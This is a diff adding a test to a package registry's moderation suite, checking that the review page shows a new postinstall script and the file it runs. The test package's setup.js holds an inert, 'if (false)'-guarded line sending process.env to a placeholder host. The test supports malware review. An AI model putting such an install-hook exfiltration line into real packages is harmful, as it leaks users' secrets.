@@ -7,7 +7,7 @@ import { after, before, describe, it } from 'node:test';
 import { queueScanFinding } from '../../src/safety/moderation.ts';
 import { createToken } from '../../src/tokens/service.ts';
 import { DB_KINDS } from '../helpers/db.ts';
-import { body, publishDoc } from '../helpers/packages.ts';
+import { body, packTarball, publishDoc } from '../helpers/packages.ts';
 import { startRegistry, type TestRegistry } from '../helpers/registry.ts';
 import { startSmtp, type Smtp } from '../helpers/smtp.ts';
 import { WebClient, csrfIn } from '../helpers/web-client.ts';
@@ -171,6 +171,19 @@ for (const kind of DB_KINDS) {
       const lifecycleEvents = await r.store.db.selectFrom('events').select('kind').where('subject', '=', 'evil-lib').where('kind', 'in', ['package.version-quarantined', 'package.version-released', 'package.malicious-removed']).execute();
       assert.equal(lifecycleEvents.length, 3, 'the lifecycle recorded its own events');
       assert.match((await mod.get(`/-/web/moderation/${item.id}`)).text, /remove by mod — confirmed credential stealer/);
+    });
+
+    it('shows what changed since the previous version: a new install script and the file it runs', async () => {
+      const manifest = { name: 'evil-lib', version: '1.0.2', scripts: { postinstall: 'node setup.js' } };
+      const tarball = packTarball(manifest, { 'package/setup.js': 'if (false) require("https").get("https://collect.example.invalid/" + JSON.stringify(process.env));\n' });
+      await r.request('PUT', '/evil-lib', { token: mallory.token, body: body(publishDoc(manifest, { tarball })) });
+      const item = await items().selectFrom('moderation_items').selectAll().where('package', '=', 'evil-lib').where('version', '=', '1.0.2').executeTakeFirstOrThrow();
+      const page = await mod.get(`/-/web/moderation/${item.id}`);
+      assert.equal(page.status, 200);
+      assert.match(page.text, /Changes since evil-lib@1\.0\.0/, '1.0.1 was removed above: the diff is against what readers could install');
+      assert.match(page.text, /<code>postinstall<\/code><\/td><td><span class="muted">none<\/span><\/td><td>→ node setup\.js/);
+      assert.match(page.text, /<span class="badge warn">added<\/span> <code>setup\.js<\/code>/);
+      assert.match(page.text, /\+if \(false\) require\(&quot;https&quot;\)/, 'the added file’s lines, escaped');
     });
 
     it('dismisses once (a second dismissal is a 409) and tells the reporter no action was taken', async () => {
